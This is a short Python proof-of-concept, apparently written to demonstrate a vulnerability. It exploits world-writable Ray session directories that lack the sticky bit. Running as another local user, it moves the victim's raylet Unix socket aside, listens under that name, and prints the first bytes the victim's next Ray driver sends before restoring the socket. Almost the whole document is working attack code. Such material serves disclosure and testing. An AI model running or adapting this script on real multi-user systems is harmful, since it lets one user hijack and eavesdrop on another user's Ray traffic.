"""Run as the attacker: Ray makes its temporary directory, each session's directory and the
session's sockets directory writable by every user, without the sticky bit. Move the victim's
raylet socket aside, listen at its name, and print what the victim's next Ray driver (here
`simhash-store dedup --ray auto`) sends; then put the victim's socket back.

    python3 ray_socket_swap_mallory.py SESSION_DIR SECONDS
"""

import os
import socket
import sys

sockets = os.path.join(sys.argv[1], "sockets")
raylet = os.path.join(sockets, "raylet")
os.rename(raylet, raylet + ".theirs")
try:
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(raylet)
    os.chmod(raylet, 0o777)  # others may connect (as the victim's raylet socket lets them)
    listener.listen()
    listener.settimeout(float(sys.argv[2]))
    print(f"listening at {raylet} as uid {os.getuid()}", flush=True)
    try:
        connection, _ = listener.accept()
        connection.settimeout(10)
        print("the victim's driver connected; first bytes:", connection.recv(200), flush=True)
    except OSError as exc:
        print("no connection:", exc, flush=True)
finally:
    os.unlink(raylet)
    os.rename(raylet + ".theirs", raylet)
